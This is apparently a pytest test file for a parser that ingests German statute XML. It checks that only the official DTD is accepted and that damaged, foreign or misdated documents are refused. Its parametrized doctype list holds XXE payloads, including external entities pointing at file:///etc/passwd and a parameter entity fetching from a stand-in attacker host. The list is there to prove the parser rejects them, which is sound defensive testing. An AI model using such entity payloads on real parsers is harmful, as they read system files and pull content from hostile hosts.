from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from ingest.errors import UnreadableSource
from ingest.laws.checking import Checked, Expected, check_statute, german_day, text_digest
from ingest.laws.statutes import Statute, read_statutes
from tests.builders import norm_xml, statute_xml
from tests.conftest import CORPUS

SGB_IX = Statute("SGB IX", "sgb_9_2018")
XML = statute_xml(norm_xml("§ 1", "Ziel", "Ein Satz.") + norm_xml("Anlage", "Liste", "Punkt."))
OFFICIAL = 'dokumente SYSTEM "http://www.gesetze-im-internet.de/dtd/1.01/gii-norm.dtd"'
UNKNOWN = Expected("", "", {})
NOW = datetime(2026, 3, 2, 5, tzinfo=UTC)


def check(
    tmp_path: Path, xml: str | bytes, expected: Expected = UNKNOWN, statute: Statute = SGB_IX
) -> Checked:
    path = tmp_path / "gesetz.xml"
    path.write_bytes(xml if isinstance(xml, bytes) else xml.encode())
    return check_statute(statute, path, expected, NOW)


def refused(
    tmp_path: Path, xml: str | bytes, expected: Expected = UNKNOWN, statute: Statute = SGB_IX
) -> str:
    with pytest.raises(UnreadableSource) as caught:
        check(tmp_path, xml, expected, statute)
    return str(caught.value)


def with_doctype(doctype: str) -> str:
    return XML.replace("?>", f"?><!DOCTYPE {doctype}>", 1)


def test_a_statute_is_told_with_its_number_date_and_norms(tmp_path: Path) -> None:
    assert check(tmp_path, XML) == Checked(
        "BJNR000010001", "20260101000000", frozenset({"1", "Anlage"})
    )


def test_the_official_dtd_may_be_named(tmp_path: Path) -> None:
    for doctype in (OFFICIAL, OFFICIAL.replace("http:", "https:")):
        assert check(tmp_path, with_doctype(doctype)).doknr == "BJNR000010001"


@pytest.mark.parametrize(
    "doctype",
    [
        'dokumente SYSTEM "http://angreifer.example/gii-norm.dtd"',
        'dokumente SYSTEM "file:///etc/passwd"',
        'dokumente PUBLIC "x" "http://www.gesetze-im-internet.de/dtd/1.01/gii-norm.dtd"',
        f"{OFFICIAL} []",
        'dokumente [<!ENTITY a "b">]',
        'dokumente [<!ENTITY a SYSTEM "file:///etc/passwd">]',
        'dokumente [<!ENTITY % a SYSTEM "http://angreifer.example/x"> %a;]',
        "html",
    ],
)
def test_other_dtds_and_entities_are_refused(tmp_path: Path, doctype: str) -> None:
    assert "Sicherheitsgründen" in refused(tmp_path, with_doctype(doctype))


def test_an_external_entity_is_never_read(tmp_path: Path) -> None:
    (tmp_path / "geheim").write_text("geheim", encoding="utf-8")
    entity = f'dokumente [<!ENTITY a SYSTEM "{(tmp_path / "geheim").as_uri()}">]'
    xml = with_doctype(entity).replace("Ein Satz.", "&a;")
    assert "geheim" not in refused(tmp_path, xml).replace("Sicherheitsgründen", "")


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        (XML[:-20], "Die XML-Datei ist beschädigt"),
        ("", "Die XML-Datei ist beschädigt"),
        ("<rss/>", "kein Gesetz im Format"),
        ("<html><body>Wartung</body></html>", "kein Gesetz im Format"),
        (XML.replace("BJNR000010001", "../../BJNR"), "kein Gesetz im Format"),
        *(
            (XML.replace("20260101000000", date), "fehlt das Datum der Fassung")
            for date in (
                "gestern",
                "",
                "2026010100000",
                "٢٠٢٦٠١٠١٠٠٠٠٠٠",
                "20269999999999",
                "20260229000000",
                "20260101240000",
                "00000101000000",
                "20260303050001",
                "99991231235959",
            )
        ),
        (statute_xml(""), "enthält keinen Text"),
        (XML.replace("UTF-8", "UTF-99").encode(), "Die XML-Datei"),
    ],
)
def test_what_is_no_statute_is_refused(tmp_path: Path, xml: str | bytes, reason: str) -> None:
    assert reason in refused(tmp_path, xml)


def test_another_number_than_before_is_refused(tmp_path: Path) -> None:
    message = refused(tmp_path, XML, Expected("BJNR323410016", "", {}))
    assert message == "Unter sgb_9_2018 kam ein anderes Gesetz: BJNR000010001 statt BJNR323410016."


def test_the_number_of_another_statute_is_refused(tmp_path: Path) -> None:
    expected = Expected("", "", {"BJNR000010001": "bgg"})
    other = Statute("Neues Gesetz", "neu")
    message = refused(tmp_path, XML, expected, other)
    assert message == "Unter neu kam das Gesetz von bgg (BJNR000010001)."


def test_another_law_under_a_known_name_is_refused(tmp_path: Path) -> None:
    message = refused(tmp_path, XML, statute=Statute("SGB VII", "sgb_7"))
    assert message == "Unter sgb_7 kam SGB IX statt SGB VII."


def test_a_law_the_program_does_not_know_is_accepted(tmp_path: Path) -> None:
    xml = XML.replace("SGB 9 2018", "RBSFV 2026")
    assert check(tmp_path, xml, statute=Statute("RBSFV 2026", "rbsfv_2026")).norms == {
        "1",
        "Anlage",
    }


def test_an_older_version_than_the_served_one_is_refused(tmp_path: Path) -> None:
    message = refused(tmp_path, XML, Expected("", "20260202215519", {}))
    assert "ältere Fassung (vom 01.01.2026) als die vorhandene (vom 02.02.2026)" in message


def test_a_version_of_the_hour_may_come_before_its_time(tmp_path: Path) -> None:
    """The clocks of the site and of this computer may differ, and it says no time zone."""
    assert check(tmp_path, XML.replace("20260101000000", "20260303050000")).norms


@pytest.mark.parametrize("served", ["99991231235959", "20269999999999", "20280101000000"])
def test_a_false_date_taken_over_before_keeps_no_version_away(tmp_path: Path, served: str) -> None:
    assert check(tmp_path, XML, Expected("", served, {})).builddate == "20260101000000"


@pytest.mark.parametrize("name", ["SGB 99", "SGB 0", "SGB 15"])
def test_a_book_that_does_not_exist_is_no_statute_asked_for(tmp_path: Path, name: str) -> None:
    for statute in (SGB_IX, Statute("SGB XIV", "sgb_14")):
        message = refused(tmp_path, XML.replace("SGB 9 2018", name), statute=statute)
        assert message == f"Unter {statute.slug} kam {name} statt {statute.short}."


def test_the_digest_is_that_of_the_text() -> None:
    same = [
        XML.replace("20260101000000", "20260303000000"),
        with_doctype(OFFICIAL),
        with_doctype(OFFICIAL.replace("http:", "https:")),
    ]
    assert {text_digest(xml.encode()) for xml in same} == {text_digest(XML.encode())}
    assert text_digest(XML.replace("Satz", "Wort").encode()) != text_digest(XML.encode())


def test_a_build_date_is_read_as_a_day() -> None:
    assert german_day("20260202215519") == "02.02.2026"


@pytest.mark.data
def test_every_real_statute_is_the_one_its_entry_in_the_list_names(test_data: Path) -> None:
    """Or it could never be fetched."""
    numbers: dict[str, str] = {}
    for statute in read_statutes(CORPUS):
        for path in (test_data / "laws" / "gii" / statute.slug).glob("*.xml"):
            checked = check_statute(statute, path, Expected("", "", numbers), datetime.now(UTC))
            assert checked.doknr == path.stem
            numbers[checked.doknr] = statute.slug
    assert len(numbers) == 36
